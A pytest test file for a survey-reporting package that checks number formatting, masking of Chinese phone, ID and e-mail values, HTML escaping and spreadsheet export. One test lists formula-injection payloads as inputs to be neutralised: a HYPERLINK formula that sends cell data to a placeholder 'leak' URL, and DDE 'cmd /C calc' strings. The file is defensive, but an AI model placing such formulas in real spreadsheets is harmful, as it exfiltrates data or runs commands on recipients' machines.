"""Number formats, masking, display helpers and the results sidecar."""

import json
import math

import pandas as pd
import pytest

from cxeval import report


@pytest.mark.parametrize("value, text", [(0.95312, "95.3%"), (1, "100.0%"), (0, "0.0%"), (0.0005, "0.1%"),
                                         (float("nan"), "–"), (None, "–")])
def test_fmt_pct(value, text):
    assert report.fmt_pct(value) == text


@pytest.mark.parametrize("value, text", [(0.031, "+3.1 pp"), (-0.0149, "-1.5 pp"), (0.0, "+0.0 pp"),
                                         (-0.00001, "+0.0 pp"), (float("nan"), "–")])
def test_fmt_pp(value, text):
    assert report.fmt_pp(value) == text


def test_counts_and_p_values():
    assert report.fmt_int(3428) == "3,428"
    assert report.fmt_num(12345.678, 2) == "12,345.68"
    assert report.fmt_p(0.0004) == "p < 0.001"
    assert report.fmt_p(0.03215) == "p = 0.032"


def test_fmt_duration():
    assert report.fmt_duration(42) == "42 分钟"
    assert report.fmt_duration(89.4, "en") == "89 min"
    assert report.fmt_duration(150) == "2.5 小时"
    assert report.fmt_duration(24 * 60, "en") == "24.0 h"
    assert report.fmt_duration(float("nan")) == "–"


def test_tr_checks_language():
    assert report.tr("满意度", "Satisfaction", "en") == "Satisfaction"
    with pytest.raises(ValueError, match="lang must be 'zh' or 'en', got 'fr'"):
        report.tr("a", "b", "fr")


def test_masking():
    assert report.mask_id("13812341234") == "138****1234"
    assert report.mask_id("C00123") == "C****3"
    assert report.mask_text("客户13812341234来电, 另留15900001111") == "客户138****1234来电, 另留159****1111"
    # a 12-digit number is not a phone number
    assert report.mask_text("单号 213812341234") == "单号 213812341234"


@pytest.mark.parametrize("written, masked", [
    # mobiles as people write them
    ("138 1234 5678", "138 **** 5678"), ("138-1234-5678", "138-****-5678"),
    ("1381234-5678", "138****-5678"), ("+86 138 1234 5678", "+86 138 **** 5678"),
    ("+8613812341234", "+86138****1234"), ("86-13812341234", "86-138****1234"),
    ("0086 13812341234", "0086 138****1234"), ("(+86)13812341234", "(+86)138****1234"),
    ("１３８１２３４５６７８", "１３８****５６７８"), ("电话：１３８－１２３４－５６７８", "电话：１３８－****－５６７８"),
    ("tel13812341234.", "tel138****1234."),
    # landlines with an area code
    ("020-87654321", "020-****4321"), ("(0755)1234567", "(0755)***4567"),
    ("（020）8765 4321", "（020）**** 4321"), ("0755-8765-4321", "0755-****-4321"),
    ("+86 20 87654321", "+86 20 ****4321"),
    # resident ID cards, 18 characters (last may be X) or the old 15 digits
    ("身份证11010519491231002X", "身份证110***********002X"),
    ("110105 19491231 002x", "110*** ******** 002x"), ("110105491231002", "110********1002"),
    ("１１０１０５１９４９１２３１００２Ｘ", "１１０***********００２Ｘ"),
    # e-mail addresses
    ("邮箱 zhang.san@example.com", "邮箱 z***@example.com"), ("13812341234@139.com", "1***@139.com"),
    ("ｚｈａｎｇ＠ｅｘａｍｐｌｅ．ｃｏｍ", "ｚ***＠ｅｘａｍｐｌｅ．ｃｏｍ"),
])
def test_masking_covers_every_common_written_form(written, masked):
    assert report.mask_text(written) == masked
    assert report.mask_text(masked) == masked  # masking twice changes nothing


@pytest.mark.parametrize("text", ["单号 213812341234", "T201007010001", "2010-07-01 08:05", "10086",
                                  "金额 1250.50 元", "共 12345678 次", "400-810-8888", "12:30 到 13:45",
                                  "16.4 / 20 × 3.5 = 2.87 → 2.9", "第 2 季度 95.3%"])
def test_masking_leaves_other_numbers_alone(text):
    assert report.mask_text(text) == text


def test_every_display_helper_masks():
    phone, masked = "客户 138-1234-5678 投诉", "客户 138-****-5678 投诉"
    assert masked in report.note(phone)._repr_html_()
    cards = report.headline([{"label": phone, "value": "1", "detail": phone}], sentence=phone)
    assert "1234" not in cards._repr_html_()
    html = report.table(pd.DataFrame({"summary": [phone, None], "n": [3, 1]}),
                        formats={"n": "int"}).to_html()
    assert masked in html and "1234-" not in html and ">–<" in html  # the blank stays blank
    assert report.record("", note=phone, names=[phone]) == {"note": masked, "names": [masked]}
    assert report.record_table("", "t", pd.DataFrame({"s": [phone]}))["rows"] == [[masked]]


def test_headline_escapes_and_validates():
    out = report.headline([{"label": "满意度", "value": "<b>95.3%</b>", "status": "good"}],
                          sentence="达标 <script>")._repr_html_()
    assert "&lt;b&gt;95.3%&lt;/b&gt;" in out and "&lt;script&gt;" in out
    with pytest.raises(ValueError, match="card status must be"):
        report.headline([{"label": "x", "value": "1", "status": "great"}])


def test_table_formats_masks_and_labels():
    df = pd.DataFrame({"customer_id": ["13812341234"], "rate": [0.95312], "n": [3428], "note": ["<i>x</i>"]})
    html = report.table(df, formats={"rate": "pct", "n": "int"}, labels={"rate": "满意度"},
                        mask=["customer_id"]).to_html()
    assert "138****1234" in html and "13812341234" not in html
    assert "95.3%" in html and "3,428" in html and "满意度" in html
    assert "&lt;i&gt;x&lt;/i&gt;" in html
    assert df.loc[0, "customer_id"] == "13812341234"  # input untouched
    with pytest.raises(ValueError, match="format for column 'rate' must be one of"):
        report.table(df, formats={"rate": "percent"})


def test_record_merges_atomically(tmp_path):
    path = tmp_path / "sub" / "r.json"
    report.record(path, rate=0.95, n=pd.Series([3]).iloc[0])
    report.record(path, gap=float("nan"), halls=["庵埠"])
    data = json.loads(path.read_text(encoding="utf-8"))
    assert data == {"rate": 0.95, "n": 3, "gap": None, "halls": ["庵埠"]}
    assert [p.name for p in path.parent.iterdir()] == ["r.json"]
    assert report.record("", x=1.0) == {"x": 1.0}
    assert not math.isnan(report.record("", y=0.5)["y"])


def test_record_table_masks_and_round_trips(tmp_path):
    path = tmp_path / "r.json"
    report.record(path, rate=0.9)
    df = pd.DataFrame({"customer_id": ["13812341234", None], "rate": [0.95, float("nan")],
                       "month": pd.to_datetime(["2010-07-01", "2010-08-01"])})
    report.record_table(path, "top repeat complainers", df, mask=["customer_id"])
    stored = json.loads(path.read_text(encoding="utf-8"))
    table = stored["tables"]["top repeat complainers"]
    assert stored["rate"] == 0.9
    assert table["columns"] == ["customer_id", "rate", "month"]
    assert table["rows"][0] == ["138****1234", 0.95, "2010-07-01"]
    assert table["rows"][1][:2] == ["", None]
    assert "13812341234" not in path.read_text(encoding="utf-8")


def test_errors_carry_every_problem():
    from cxeval.errors import ConfigError, CxevalError, DataError

    err = DataError("survey.csv is not valid survey data: 2 problems found", ["row 3: x", "row 4: y"])
    assert isinstance(err, CxevalError)
    assert err.summary.startswith("survey.csv") and err.problems == ["row 3: x", "row 4: y"]
    assert str(err) == "survey.csv is not valid survey data: 2 problems found\n  - row 3: x\n  - row 4: y"
    assert str(ConfigError("bad.yaml: 1 problem")) == "bad.yaml: 1 problem"


def test_excluded_note_names_the_rows_set_aside():
    clean = pd.DataFrame({"a": [1]})
    assert report.excluded_note(clean, None)._repr_html_() == ""
    broken = pd.DataFrame({"a": [1]})
    broken.attrs.update(excluded_rows=2, excluded_problems=["s.csv row 3: x", "s.csv row 9: y"])
    text = report.excluded_note(clean, broken, lang="en")._repr_html_()
    assert "2 rows of other branches" in text and "s.csv row 3: x; s.csv row 9: y" in text


def test_excluded_note_names_total_rows_and_masks_quoted_cells():
    survey = pd.DataFrame({"a": [1]})
    survey.attrs["total_rows"] = ["s.csv row 4: 营业厅/hall '小计' is a total row; left out, not counted"]
    text = report.excluded_note(survey, lang="en")._repr_html_()
    assert "1 total or subtotal rows of the input files are left out and not counted" in text
    assert "s.csv row 4: 营业厅/hall &#x27;小计&#x27;" in text
    assert "合计/小计行，未计入任何数字" in report.excluded_note(survey)._repr_html_()
    broken = pd.DataFrame({"a": [1]})
    broken.attrs.update(excluded_rows=1,
                        excluded_problems=["t.csv row 3, column opened_at: found '13912345678'"])
    text = report.excluded_note(survey, broken, lang="en")._repr_html_()
    assert "139****5678" in text and "13912345678" not in text and "total or subtotal" in text


@pytest.mark.parametrize("text", ['=HYPERLINK("http://x.example/?leak="&A1,"点此")', "+cmd|' /C calc'!A0",
                                  "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1",
                                  "\r=1+1", " =1+1"])
def test_text_that_starts_like_a_formula_is_neutralised(text):
    assert report.neutralise_formula(text) == "'" + text


@pytest.mark.parametrize("value", ["潮安", "-5", "+3.1%", "-0.25", "1,250", 12, -3.5, None, "a=b"])
def test_numbers_and_plain_text_stay_as_they_are(value):
    assert report.neutralise_formula(value) == value


def test_safe_table_writes_text_as_text_and_numbers_as_numbers(tmp_path):
    import openpyxl

    df = pd.DataFrame({"unit": ["=HYPERLINK(\"http://x\")", "@SUM(A1)", "潮安 13812341234"],
                       "total": [12.5, -3, 7], "rank": [1, 3, 2]})
    safe = report.safe_table(df.rename(columns={"total": "=total"}))
    assert safe["unit"].tolist() == ["'=HYPERLINK(\"http://x\")", "'@SUM(A1)", "潮安 138****1234"]
    assert list(safe.columns) == ["unit", "'=total", "rank"]
    assert df["unit"].iloc[0].startswith("=")  # the input is untouched
    safe.to_excel(tmp_path / "t.xlsx", index=False)
    ws = openpyxl.load_workbook(tmp_path / "t.xlsx").active
    cells = [c for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert [c.value for c in ws["B"][1:]] == [12.5, -3, 7]   # numeric cells, not text
    assert all(c.data_type == "n" for c in ws["B"][1:])


def test_excel_formats_follow_what_the_table_shows():
    import pandas as pd

    from cxeval import kpi
    from conftest import CONFIGS

    df = pd.DataFrame({"rate": [0.9174649963, 0.5], "n": [3428, 12], "diff": [0.031, -0.02],
                       "p": [0.0321, 0.0001], "share": [82.9, 10.0], "word": ["a", "b"], "rank": [1, 2]})
    got = report.excel_formats(df, {"rate": "pct2", "n": "int", "diff": "pp", "p": "p", "share": "pct100",
                                    "word": "num", "rank": lambda v: f"↑{v}"})
    assert got == {"rate": {"number_format": "0.00%", "scale": 1}, "n": {"number_format": "#,##0", "scale": 1},
                   "diff": {"number_format": '+0.0" pp";-0.0" pp";0.0" pp"', "scale": 100},
                   "p": {"number_format": "0.000", "scale": 1}, "share": {"number_format": '0.0"%"', "scale": 1}}
    card = kpi.Scorecard.from_yaml(CONFIGS / "guizhou_2006_quarterly.yaml")
    points = report.excel_formats(pd.DataFrame({"points": [2.3249, 1.0], "value": [15.5, 0.853]}),
                                  card.table_formats("zh"))
    assert points == {"points": {"number_format": "0.0", "scale": 1},     # the scorecard's one decimal
                      "value": {"number_format": "General", "scale": 1}}  # figures as written


def test_record_table_keeps_headers_formats_and_title(tmp_path):
    import pandas as pd

    path = tmp_path / "r.json"
    frame = pd.DataFrame({"period": ["2008-01"], "rate": [0.95312], "ci_low": [0.94]})
    payload = report.record_table(path, "monthly_rates", frame, labels={"rate": "满意度"}, title="月度满意度")
    assert payload["labels"] == {"rate": "满意度"} and payload["title"] == "月度满意度"
    # rate is a rate wherever it appears; ci_low is not known without the notebook's format
    assert payload["formats"] == {"rate": {"number_format": "0.0%", "scale": 1}}
    assert report.header("gap_to_target", "zh") == "与目标差距" and report.header("xyz", "en") == "xyz"


def test_bullets_escape_and_group_lines():
    html = report.bullets(["风险（2 项）：", "<b>贵阳</b> 低于目标。", "", "潮安 13812345678。"])._repr_html_()
    assert "&lt;b&gt;贵阳&lt;/b&gt;" in html and "138****5678" in html
    assert html.count("<li>") == 2 and "风险（2 项）：</div>" in html


def test_as_shown_makes_points_losses_and_shares_agree():
    """04 §2 showed 满分 2, 得分 1.5, 失分 0.5 and 失分率 27.2% (from the unrounded 1.456)."""
    import pandas as pd

    from cxeval import kpi

    half_up = lambda x: kpi.round_half_up(x, 1)  # noqa: E731
    items = pd.DataFrame({"max_points": [2.0, 3.5, 1.0], "points": [1.456, 2.45, float("nan")],
                          "points_lost": [0.544, 1.05, float("nan")], "lost_rate": [0.272, 0.3, float("nan")]})
    shown = report.as_shown(items, round=half_up, columns=["points"],
                            complements={"points_lost": ("max_points", "points")},
                            shares={"lost_rate": ("points_lost", "max_points"), "share": ("points_lost", 1.5)})
    assert shown["points"].tolist()[:2] == [1.5, 2.5]            # 2.45 half up, as the scheme rounds
    assert shown["points_lost"].tolist()[:2] == [0.5, 1.0]       # 3.5 - 2.5, not round(1.05) = 1.1
    assert shown["lost_rate"].tolist()[:2] == pytest.approx([0.25, 1.0 / 3.5])
    assert shown["share"].tolist()[:2] == pytest.approx([0.5 / 1.5, 1.0 / 1.5])
    assert shown.iloc[2].isna().sum() == 4 and items["points"].tolist()[0] == 1.456   # the input is untouched


def test_table_aligns_text_left_and_numbers_right():
    """As a reader of Excel expects: names and sentences to the left, numbers to the right
    (each column's header with it); the notebook stylesheet alone right-aligns every cell."""
    import re

    df = pd.DataFrame({"hall": ["庵埠", "枫溪"], "rate": [0.953, 0.91], "responses": [100, 200],
                       "meets_target": [True, False]})
    css = report.table(df, formats={"rate": "pct"}).to_html().replace("\n", " ")
    rules = dict(re.findall(r"\.col(\d) \{\s*text-align: (\w+);\s*\}", css))
    assert rules == {"0": "left", "1": "right", "2": "right", "3": "left"}
